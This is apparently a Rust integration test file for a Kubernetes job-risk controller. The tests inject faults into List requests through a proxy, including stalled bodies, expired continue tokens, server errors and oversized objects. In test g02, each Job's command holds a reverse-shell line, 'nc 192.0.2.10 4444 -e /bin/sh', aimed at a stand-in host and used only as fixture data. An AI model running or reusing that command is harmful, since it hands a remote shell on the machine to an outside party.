//! Faults of lists.

use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use serde_json::json;

use crate::scenario::{Scenario, is_long};
use crate::support::proxy::{Action, Answer, Entry, Fault, Match, Verb, expired_event};
use crate::support::{create, eventually, job};

/// How long a list may hang before it is given up, and asked for again after the first back-off.
const HUNG_LIST: Duration = Duration::from_secs(30 + 5);

#[test]
fn w04_a_version_that_the_server_does_not_know_yet_is_asked_for_again() {
    let scenario = Scenario::prepare("w04");
    let proxy = &scenario.proxy;
    let too_large = || {
        let message = "Timeout: Too large resource version: 900, current: 899";
        let mut body = json!({
            "kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure", "message": message,
            "reason": "Timeout", "code": 504, "details": { "retryAfterSeconds": 1, "causes": [] },
        });
        body["details"]["causes"] =
            json!([{ "reason": "ResourceVersionTooLarge", "message": "Too large resource version" }]);
        Action::Answer(Answer::json(504, &body))
    };
    scenario.jobs("before", 3);
    for resource in ["jobs", "cronjobs", "jobriskreports"] {
        proxy.script(Fault::new(Match::on(Verb::List, resource), too_large()).times(2));
    }
    scenario.start();
    scenario.settles_soon();

    let mark = proxy.mark();
    let id = proxy.script(Fault::new(Match::on(Verb::List, "jobs"), too_large()).times(2));
    proxy.inject("jobs", &expired_event());
    proxy.end(Match::on(Verb::Watch, "jobs"));
    scenario.sees_new_job("after", Duration::from_secs(60));
    assert_eq!(proxy.hits(id), 2, "{:#?}", proxy.since(mark));
    scenario.settles_soon();
}

/// Lists of one kind hang in a way each; all are given up in time, and everything is found.
fn hung_lists_are_given_up(id: &str, ways: [(&str, Action); 3]) {
    let scenario = Scenario::prepare(id);
    let proxy = &scenario.proxy;
    scenario.jobs("before", 3);
    let faults = ways.map(|(resource, action)| {
        (resource, proxy.script(Fault::new(Match::on(Verb::List, resource), action).times(1)))
    });
    scenario.jobrisk.run();
    for (resource, _) in faults {
        let mut log = Vec::new();
        let again = eventually(HUNG_LIST * 3, || {
            log = proxy.log();
            log.retain(|entry| Match::on(Verb::List, resource).matches(&entry.request));
            (log.len() > 1).then_some(())
        });
        assert!(again.is_some(), "{resource} are not listed again");
        let waited = log[1].at - log[0].at;
        assert!(waited < HUNG_LIST, "{resource} are listed again only after {waited:?}");
    }
    scenario.jobrisk.wait_ready();
    scenario.settles_soon();
}

#[test]
fn w07_a_list_that_stalls_after_its_headers_is_given_up() {
    let way = || Action::StallBody(0);
    hung_lists_are_given_up(
        "w07",
        [("jobriskreports", way()), ("jobs", way()), ("cronjobs", Action::Swallow)],
    );
}

#[test]
fn w08_a_list_that_stalls_in_its_body_is_given_up() {
    let way = || Action::StallBody(40);
    hung_lists_are_given_up("w08", [("jobriskreports", way()), ("jobs", way()), ("cronjobs", way())]);
}

#[test]
fn w07_lists_that_never_come_are_no_life() {
    if !is_long() {
        // Three minutes of nothing are what it is about.
        return;
    }
    let scenario = Scenario::prepare("w07-liveness");
    for resource in ["jobs", "cronjobs"] {
        scenario.proxy.add(Match::on(Verb::List, resource), Action::StallBody(0));
    }
    scenario.jobrisk.run();
    let dead = eventually(Duration::from_secs(240), || (scenario.jobrisk.livez() == Some(503)).then_some(()));
    assert!(dead.is_some(), "alive without having seen anything: {}", scenario.jobrisk.stderr());
}

#[test]
fn w21_a_list_is_complete_with_its_last_page_and_not_before() {
    let scenario = Scenario::begin("w21");
    let proxy = &scenario.proxy;
    let lists: Vec<Entry> = proxy
        .log()
        .into_iter()
        .filter(|entry| Match::on(Verb::List, "jobs").matches(&entry.request))
        .collect();
    let limit: usize = lists[0].request.parameter("limit").expect("lists are in pages").parse().unwrap();
    scenario.jobs("job", 2 * limit + 10);
    scenario.settles(Duration::from_secs(60));
    scenario.jobrisk.terminate();

    // The place in the list expires while it is read, again and again: what was read is not the whole.
    let mark = proxy.mark();
    let pages = |request: &crate::support::proxy::Request| request.parameter("continue").is_some();
    let message = "The provided continue parameter is too old to display a consistent list result.";
    let expired = Answer::status(410, "Expired", message);
    proxy.add(Match::on(Verb::List, "jobs").when(pages), Action::Answer(expired.clone()));
    scenario.jobrisk.run();
    let begun =
        eventually(Duration::from_secs(10), || (proxy.count(mark, Verb::List, "jobs") > 1).then_some(()));
    assert!(begun.is_some(), "not listed: {}", scenario.jobrisk.stderr());
    thread::sleep(Duration::from_secs(3));
    assert_eq!(
        scenario.jobrisk.readyz().map(|(status, _)| status),
        Some(503),
        "a part is taken for the whole"
    );
    assert!(proxy.writes(mark).is_empty(), "{:#?}", proxy.writes(mark));
    proxy.clear();
    scenario.jobrisk.wait_ready();
    scenario.settles_soon();
    assert!(proxy.writes(mark).is_empty(), "{:#?}", proxy.writes(mark));
    scenario.jobrisk.terminate();

    // Once expired in the middle, and a last page with nothing on it.
    let mark = proxy.mark();
    proxy.script(Fault::new(Match::on(Verb::List, "jobs").when(pages), Action::Answer(expired)).times(1));
    let version = Arc::new(Mutex::new(String::new()));
    let noted = Arc::clone(&version);
    let with_empty_page = Action::rewrite(move |list| {
        if list["metadata"]["continue"].as_str().unwrap_or_default().is_empty() {
            list["metadata"]["continue"] = json!("EMPTY");
            list["metadata"]["resourceVersion"]
                .as_str()
                .unwrap_or_default()
                .clone_into(&mut noted.lock().unwrap());
        }
    });
    let is_empty_page =
        |request: &crate::support::proxy::Request| request.parameter("continue") == Some("EMPTY");
    let empty_page = Action::respond(move |_| {
        let metadata = json!({ "resourceVersion": *version.lock().unwrap() });
        let list =
            json!({ "kind": "JobList", "apiVersion": "batch/v1", "metadata": metadata, "items": null });
        Answer::json(200, &list)
    });
    let empty = proxy.add(Match::on(Verb::List, "jobs").when(is_empty_page), empty_page);
    proxy.add(Match::on(Verb::List, "jobs").when(pages), with_empty_page);
    scenario.start();
    assert!(proxy.hits(empty) > 0, "the empty page was not asked for: {:#?}", proxy.since(mark));
    scenario.settles_soon();
    assert!(proxy.writes(mark).is_empty(), "{:#?}", proxy.writes(mark));
    scenario.sees_new_job("after", Duration::from_secs(10));
}

#[test]
fn c13_workloads_that_cannot_be_listed_are_not_gone() {
    let scenario = Scenario::begin("c13");
    let proxy = &scenario.proxy;
    scenario.jobs("job", 4);
    scenario.settles_soon();
    scenario.jobrisk.terminate();

    let mark = proxy.mark();
    let failure =
        Answer::status(500, "InternalError", "Internal error occurred: etcdserver: request timed out");
    for resource in ["jobs", "cronjobs"] {
        proxy.add(Match::on(Verb::List, resource), Action::Answer(failure.clone()));
    }
    scenario.jobrisk.run();
    thread::sleep(Duration::from_secs(8));
    // The Jobs wait for the CronJobs, which own them.
    assert!(proxy.count(mark, Verb::List, "cronjobs") > 1, "{:#?}", proxy.since(mark));
    let writes: Vec<Entry> = proxy.since(mark).into_iter().filter(Entry::is_write).collect();
    assert!(writes.is_empty(), "{writes:#?}");
    proxy.clear();
    scenario.settles(Duration::from_secs(30));
    assert!(proxy.writes(mark).is_empty(), "{:#?}", proxy.writes(mark));
}

/// Whoever may create Jobs can put this many megabytes into a page.
const LARGE_JOBS: usize = 40;

#[test]
fn g02_large_objects_are_listed_in_smaller_pages() {
    let scenario = Scenario::prepare("g02-pages");
    let proxy = &scenario.proxy;
    let filler = "x".repeat(1 << 20);
    for number in 0..LARGE_JOBS {
        let script = format!("nc 192.0.2.10 4444 -e /bin/sh; echo {filler}");
        create(scenario.plane(), &job("g02-pages", &format!("job-{number}"), &["/bin/sh", "-c", &script]));
    }
    scenario.start();
    let peak = scenario.jobrisk.peak_kib();
    scenario.settles(Duration::from_secs(60));
    let lists = proxy.log().into_iter().filter(|entry| Match::on(Verb::List, "jobs").matches(&entry.request));
    let mut limits: Vec<u32> =
        lists.filter_map(|entry| entry.request.parameter("limit")?.parse().ok()).collect();
    limits.dedup();
    eprintln!("g02-pages: {LARGE_JOBS} Jobs of 1 MiB: pages of {limits:?}, {peak} KiB at most");
    assert!(limits.len() > 1 && limits.is_sorted_by(|a, b| a > b), "{limits:?}");
    // All of them together, as text and decoded, would be 80 MiB and more.
    assert!(peak < 64 * 1024, "{peak} KiB");
}
